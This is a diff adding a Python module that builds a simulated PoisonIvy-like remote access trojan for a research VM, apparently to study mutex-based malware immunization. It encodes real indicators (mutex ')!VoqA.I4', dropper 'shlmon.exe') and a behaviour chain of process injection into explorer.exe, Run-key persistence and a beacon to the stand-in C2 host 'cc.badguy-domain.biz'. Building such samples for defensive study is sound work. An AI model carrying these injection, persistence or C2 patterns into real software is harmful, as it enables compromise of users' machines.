@@ -1,0 +1,54 @@
+"""PoisonIvy analogue (RAT; Table III row 1: mutex ``!VoqA.I4``, impact T).
+
+The marker mutex check terminates the sample immediately (full immunization
+via simulated presence).  Secondary resources: a dropped loader in system32
+(Table III row 9 ``shlmon.exe``) and explorer.exe hijacking.  Variants 2/4
+change both the mutex and the file name, reproducing Table VII's 67%.
+"""
+
+from __future__ import annotations
+
+from ..builder import (
+    AsmBuilder,
+    frag_beacon,
+    frag_check_mutex_marker,
+    frag_create_mutex,
+    frag_drop_file,
+    frag_exit,
+    frag_inject_process,
+    frag_persist_run_key,
+)
+
+FAMILY = "poisonivy"
+CATEGORY = "backdoor"
+
+MUTEX = ")!VoqA.I4"
+DROPPER = "%system32%\\shlmon.exe"
+
+_VARIANT_MUTEXES = {2: ")!VoqA.I5", 4: "K^DJA!#4"}
+_VARIANT_FILES = {2: "%system32%\\shlmon2.exe", 4: "%system32%\\rasmon.exe"}
+
+
+def build(variant: int = 0) -> "Program":
+    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
+    mutex = _VARIANT_MUTEXES.get(variant, MUTEX)
+    dropper = _VARIANT_FILES.get(variant, DROPPER)
+
+    infected = b.unique("infected")
+    frag_check_mutex_marker(b, mutex, infected)
+    frag_create_mutex(b, mutex)
+
+    bail = b.unique("bail")
+    frag_drop_file(b, dropper, bail, content="MZpivy")
+    frag_inject_process(b, "explorer.exe")
+    frag_persist_run_key(b, "shlmon", "c:\\windows\\system32\\shlmon.exe")
+    b.label(bail)
+    frag_beacon(b, "cc.badguy-domain.biz", rounds=3, payload="PIVY")
+    b.emit("    halt")
+
+    b.label(infected)
+    frag_exit(b, 0)
+    return b.build(family=FAMILY, category=CATEGORY, variant=variant)
+
+
+from ...vm.program import Program  # noqa: E402
